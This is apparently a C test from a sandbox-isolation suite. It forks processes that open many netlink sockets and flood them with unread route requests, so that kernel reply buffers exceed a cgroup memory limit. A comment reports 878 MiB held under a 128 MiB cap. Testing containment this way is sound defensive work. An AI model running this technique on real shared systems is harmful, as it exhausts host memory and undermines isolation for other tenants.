// tries: hold more memory in answers of the kernel, which it does not read, than its limit
// outcome: succeeded|out_of_memory|exception|failed
// gvisor: succeeded, its kernel has an account of its own
#include "hostile.h"
#include <linux/netlink.h>
#include <linux/rtnetlink.h>
// Worked on 5ee7338 with cgroup v1, at cell and task: 878 MiB of answers were held under a limit of 128 MiB.
int main(void) {
	long long held = 0;
	int total[2], most = 1 << 30;
	pipe(total);
	for (int p = 0; p < 4; p++) {
		if (fork() != 0) continue;
		held = 0;
		for (int i = 0; i < 100; i++) {
			int s = socket(AF_NETLINK, SOCK_RAW, NETLINK_ROUTE);
			if (s < 0) break;
			setsockopt(s, SOL_SOCKET, SO_RCVBUF, &most, sizeof most);
			struct { struct nlmsghdr h; struct ifinfomsg i; } q = {{sizeof q, RTM_GETLINK, NLM_F_REQUEST}, {.ifi_index = 1}};
			for (int j = 0; j < 1000; j++) if (send(s, &q, sizeof q, MSG_DONTWAIT) < 0) break;
			unsigned memory[9] = {0};
			socklen_t size = sizeof memory;
			getsockopt(s, SOL_SOCKET, SO_MEMINFO, memory, &size);
			held += memory[0];
		}
		write(total[1], &held, sizeof held);
		hold();
		_exit(0);
	}
	close(total[1]);
	long long all = 0;
	while (read(total[0], &held, sizeof held) == sizeof held) all += held;
	if (all > 128 << 20) escaped("%lld MiB in answers", all >> 20);
	return contained();
}
